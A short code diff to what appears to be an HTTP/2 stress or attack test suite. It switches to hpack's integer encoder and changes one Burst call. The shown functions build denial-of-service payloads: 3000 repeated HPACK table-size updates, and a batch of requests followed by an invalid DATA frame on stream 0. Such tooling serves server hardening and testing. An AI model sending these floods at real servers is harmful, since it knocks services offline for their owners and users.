@@ -4,9 +4,9 @@ from collections.abc import Iterator
 
 from attack import Attack, Burst, Bursts, End
 from floods import flood, on_stream, streams
+from hpack.hpack import encode_integer
 from http2 import (
-    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, call, call_fields, frame, integer,
-    literal,
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, call, call_fields, frame, literal,
 )  # fmt: skip
 
 METHOD_POST = b"\x83"
@@ -36,12 +36,12 @@ def large_list(stream: int) -> bytes:
 
 def table_sizes() -> bytes:
     """Returns repeated changes of the dynamic table's size."""
-    return (b"\x20" + bytes([0x20 | 0x1F]) + integer(4096, 5)[1:]) * 3000
+    return (b"\x20" + bytes([0x20 | 0x1F]) + encode_integer(4096, 5)[1:]) * 3000
 
 
 def calls_and_an_error() -> Iterator[Burst]:
     data = b"".join(call(stream) for stream in range(1, 801, 2))
-    yield Burst(data + frame(DATA, 0, 0, b"x"), 401)
+    yield Burst(data + frame(DATA, 0, 0, b"x"))
 
 
 ATTACKS = [
